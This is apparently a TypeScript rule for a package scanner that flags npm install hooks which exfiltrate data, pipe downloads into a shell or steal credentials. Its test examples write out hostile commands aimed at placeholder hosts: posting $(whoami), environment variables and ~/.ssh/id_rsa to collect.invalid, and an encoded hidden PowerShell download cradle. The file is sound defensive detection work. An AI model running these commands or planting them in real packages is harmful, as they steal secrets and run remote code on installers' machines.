import { defineRule } from '../src/define.js';
import type { SourceFile, Step, Trigger } from '../src/types.js';
import { deedsOf } from '../src/vocabulary/deeds.js';

export default defineRule({
  meta: {
    summary: 'Runs a harmful command while it is being installed',
    why: 'An install hook runs before anybody has looked. Honest hooks build native code, choose a prebuilt binary or set up git hooks; those that talk to other machines in the shell, hide their output or send what `$(whoami)` prints are how most malicious packages work.',
    behaviour: 'install',
    messages: {
      'reverse-shell': '{from} opens a shell to another machine',
      'download-run': '{from} downloads a program and runs it',
      exfiltrate: '{from} sends facts about the machine to another one',
      credentials: '{from} {says}',
      secret: '{from} sends a secret of the environment to another machine',
      upload: '{from} sends a file to another machine: {command}',
      destroy: '{from} destroys what lies on the machine',
      halt: '{from} halts the machine',
      backdoor: '{from} lets somebody else in: {command}',
      disarm: '{from} switches off what protects the machine: {command}',
      agent: '{from} has a coding agent do what it likes: {command}',
      mine: '{from} mines cryptocurrency',
      persist: '{from} makes something start again and again',
      executable: '{from} starts a program the package brings: {command}',
      'odd-contact': '{from} {says}',
      contact: '{from} contacts another machine: {command}',
      encoded: '{from} {says}',
      'inline-code': '{from} runs code written in the command',
      installs: '{from} {says}: {command}',
      'installs-globally': '{from} {says}: {command}',
      'hidden-start': '{from} starts a script out of sight: {command}',
    },
    bits: {
      'reverse-shell': 14,
      'download-run': 14,
      exfiltrate: 14,
      secret: 13.5,
      upload: 12,
      credentials: 11,
      destroy: 14,
      halt: 13.5,
      backdoor: 14,
      disarm: 11,
      agent: 11,
      mine: 14,
      persist: 9,
      executable: 9,
      'odd-contact': 13.5,
      contact: 8,
      encoded: 9,
      'inline-code': 6,
      installs: 4,
      'installs-globally': 7,
      'hidden-start': 5,
    },
  },
  examples: {
    flags: [
      {
        title: 'a hook installs another program for everybody',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"npm install -g other-tool@latest"}}',
        },
      },
      {
        title: 'a hook sends who installs',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl https://collect.invalid/?u=$(whoami)"}}',
        },
      },
      {
        title: 'a hook pipes a download into a shell',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -s https://stage.invalid/x | sh"}}',
        },
      },
      {
        title: 'a shell file the hook starts sends a key',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"sh setup.sh"}}',
          'setup.sh': 'a=$(cat $HOME/.ssh/id_rsa)\ncurl -d "k=$a" https://collect.invalid\n',
        },
      },
      {
        title: 'a hook sends what a command prints, through a pipe',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"env | base64 | curl -X POST --data-binary @- https://collect.invalid"}}',
        },
      },
      {
        title: 'a hook’s PowerShell is encoded and downloads what it runs',
        files: {
          'package.json': `{"name":"a","version":"1.0.0","scripts":{"postinstall":"powershell -w hidden -enc ${Buffer.from("IEX (New-Object Net.WebClient).DownloadString('https://stage.invalid/x')", 'utf16le').toString('base64')}"}}`,
        },
      },
      {
        title: 'a script runs out of sight, twice',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"preinstall":"start /B node a.js & node a.js"}}',
          'a.js': '',
        },
      },
    ],
    passes: [
      {
        title: 'native code is built',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"install":"prebuild-install || node-gyp rebuild"}}',
        },
      },
      {
        title: 'git hooks are set up, or not',
        files: { 'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"husky install || true"}}' },
      },
      {
        title: 'a folder of its own is emptied and filled again',
        files: {
          'package.json':
            '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node -v && rm -rf ./vendor && mkdir vendor && npm install --prefix vendor"}}',
        },
      },
      {
        title: 'a test script, which no install runs, downloads',
        files: { 'package.json': '{"name":"a","version":"1.0.0","scripts":{"test":"curl https://a.invalid | sh"}}' },
      },
    ],
  },
  package({ triggers, shellFiles, startedBy, momentOf, sourceOf, report }) {
    const manifest = sourceOf('package.json');
    for (const trigger of triggers) {
      if (trigger.moment !== 'install') continue;
      const [worst] = deedsOf(trigger.commands);
      const source = trigger.at.path === 'package.json' ? manifest : sourceOf(trigger.at.path);
      if (!worst || !source) continue;
      report({
        messageId: worst.deed === 'installs' && worst.says.endsWith('machine') ? 'installs-globally' : worst.deed,
        data: { from: trigger.from, says: worst.says, command: worst.command.text },
        chain: [{ ...triggerStep(trigger, source), role: 'sink', says: `${trigger.from}: ${worst.says}` }],
      });
    }
    for (const { file, commands } of shellFiles) {
      if (momentOf(file.path) !== 'install' || startedBy(file.path) === undefined) continue;
      const [worst] = deedsOf(commands);
      if (!worst || worst.deed === 'contact' || worst.deed === 'hidden-start') continue;
      const from = startedBy(file.path) as string;
      const start = Math.max(0, file.text.indexOf(worst.command.text));
      const trigger = triggers.find(one => one.from === from);
      const source = trigger && sourceOf(trigger.at.path);
      report({
        messageId: worst.deed,
        data: { from: `${from} through ${file.path}`, says: worst.says, command: worst.command.text },
        chain: [
          ...(trigger && source ? [triggerStep(trigger, source)] : []),
          { role: 'sink', says: worst.says, origin: { file, start, end: start + worst.command.text.length } },
        ],
      });
    }
  },
});

function triggerStep({ from, at }: Trigger, file: SourceFile): Step {
  return { role: 'trigger', says: `${from} runs on installation`, origin: { file, start: at.start, end: at.end } };
}
